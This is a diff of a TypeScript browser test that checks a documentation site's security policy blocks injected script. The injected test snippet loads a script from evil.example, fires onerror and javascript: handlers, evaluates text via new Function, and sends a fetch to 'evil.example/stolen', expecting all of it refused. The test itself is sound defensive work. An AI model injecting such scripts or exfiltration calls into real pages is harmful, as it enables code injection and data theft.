@@ -7,6 +7,7 @@ import { buildSnapshot } from '../../src/snapshot/build-snapshot.ts'
 import { openBrowser } from '../support/browser.ts'
 import { lectern, serving, type RunningCli } from '../support/cli.ts'
 import { fileServer, type FileServer } from '../support/file-server.ts'
+import { LONG } from '../support/sampled.ts'
 import { docsJson, makeFolder, makeSite } from '../support/site.ts'
 
 const FILES = {
@@ -41,10 +42,13 @@ const INJECT = `(() => {
   remote.src = 'https://evil.example/x.js'
   document.body.append(remote)
   document.body.insertAdjacentHTML('beforeend', '<img src="data:," onerror="window.hacked = 1"><a id="bad" href="javascript:window.hacked=2">x</a>')
+  const pictureFailed = new Promise((done) => document.querySelector('img[src="data:,"]').addEventListener('error', done))
   document.getElementById('bad').click()
   // Later: what a test runs itself may evaluate text.
   setTimeout(() => new Function('window.hacked = "eval"')())
-  return fetch('https://evil.example/stolen').then(() => 'sent', () => 'refused')
+  const evaluated = new Promise((done) => setTimeout(done, 1))
+  const sent = fetch('https://evil.example/stolen').then(() => 'sent', () => 'refused')
+  return Promise.all([sent, pictureFailed, evaluated]).then(([answer]) => answer)
 })()`
 
 let browser: Browser
@@ -110,10 +114,9 @@ async function refusesInjected(url: string): Promise<void> {
   const { page, refused, asked } = await watched()
   await page.goto(`${url}/guides/start/`)
   expect(await page.evaluate(INJECT)).toBe('refused')
-  await page.waitForTimeout(200)
+  await expect.poll(() => refused.length).toBeGreaterThanOrEqual(4)
   expect(await page.evaluate('window.hacked')).toBeUndefined()
   expect(asked.filter((address) => address.includes('evil'))).toEqual([])
-  await expect.poll(() => refused.length).toBeGreaterThanOrEqual(4)
   await page.context().close()
 }
 
@@ -203,7 +206,8 @@ describe('over HTTP', () => {
 test('no page of the manual asks for anything its policy refuses', async () => {
   const server = await serving(['start', 'docs'])
   const { pages } = View.of(buildSnapshot({ root: 'docs' }), STRANGER)
-  const waiting = [...pages.map(({ path: address }) => address), '/no-such-page']
+  const addresses = pages.map(({ path: address }) => address)
+  const waiting = [...addresses.filter((_, index) => LONG || index % 5 === 0), '/no-such-page']
   // Several windows: a page mostly waits for its scripts.
   const walk = async () => {
     const { page, refused } = await watched()
